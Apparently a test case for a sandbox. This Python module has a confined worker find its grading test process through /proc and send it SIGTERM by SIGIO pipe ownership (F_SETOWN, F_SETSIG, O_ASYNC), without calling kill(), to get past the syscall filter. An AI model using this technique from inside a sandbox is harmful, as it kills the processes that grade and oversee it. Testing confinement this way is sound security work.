import fcntl
import os
import signal
import struct
import time

F_SETSIG, F_SETOWN_EX = 10, 15  # <fcntl.h>: the signal a descriptor's owner gets; an owner by kind
F_OWNER_TID, F_OWNER_PID = 0, 1
_done = []  # what was arranged, once per process


def _parent_of(pid):
    """The parent pid /proc/PID/stat names (its 4th field, after the command's parenthesis); None if gone."""
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return int(handle.read().rpartition(")")[2].split()[1])
    except (OSError, ValueError, IndexError):
        return None


def targets():
    """The worker's ancestors above the zygote: the launcher (the zygote's parent, which is not confined) and
    its parent, the test process (which decides the score). Where the worker has a PID namespace the zygote
    is its init and its parent is outside: pid 0, and nothing is found."""
    zygote = os.getppid()
    launcher = _parent_of(zygote)
    test_process = _parent_of(launcher) if launcher else None
    return [pid for pid in (test_process,) if pid and pid > 1]


def _owner_ex(fd, kind, pid):
    """fcntl(F_SETOWN_EX) by its struct f_owner_ex {int type; pid_t pid;}; 0 or the errno's text."""
    owner = struct.pack("ii", kind, pid)
    try:
        fcntl.fcntl(fd, F_SETOWN_EX, owner)
    except OSError as error:
        return error.strerror
    return 0


def sigio_to(pid, signum=signal.SIGTERM):
    """A pipe whose reading end is owned by `pid` (F_SETOWN, and F_SETOWN_EX by thread id) with O_ASYNC set and
    F_SETSIG `signum`: a byte written to the pipe makes the kernel send `signum` to the owner (send_sigio),
    with no kill() call at all. The kernel checks only that the uids match and what the security modules say
    (Landlock's signal scope, ABI 6: hook_file_send_sigiotask); the filter checks nothing of F_SETOWN.
    What each step said, as text."""
    said = []
    for how in ("pid", "tid"):
        reading, writing = os.pipe()
        try:
            if how == "pid":
                try:
                    fcntl.fcntl(reading, fcntl.F_SETOWN, pid)
                    said.append(f"F_SETOWN {pid}: done")
                except OSError as error:
                    said.append(f"F_SETOWN {pid}: {error.strerror}")
                    continue
            else:
                result = _owner_ex(reading, F_OWNER_TID, pid)
                said.append(f"F_SETOWN_EX tid {pid}: {result or 'done'}")
                if result:
                    continue
            fcntl.fcntl(reading, F_SETSIG, signum)
            fcntl.fcntl(reading, fcntl.F_SETFL, fcntl.fcntl(reading, fcntl.F_GETFL) | os.O_ASYNC | os.O_NONBLOCK)
            os.write(writing, b"x")
            time.sleep(0.2)
        finally:
            os.close(reading)
            os.close(writing)
    return "; ".join(said)


def attack(args):
    """Arrange, once, SIGTERM by SIGIO for the test process; then fail this call saying what the calls said.
    If the signal reached the test process, it ends by SIGTERM and the grade ends "not graded, not your
    fault" (outcome killed), which the case does not allow: the attack got through."""
    if not _done:
        found = targets()
        _done.append("; ".join(sigio_to(pid) for pid in found) if found else "no process above the zygote")
    raise RuntimeError(f"asked the kernel for SIGTERM by SIGIO to the test process: {_done[0]}")
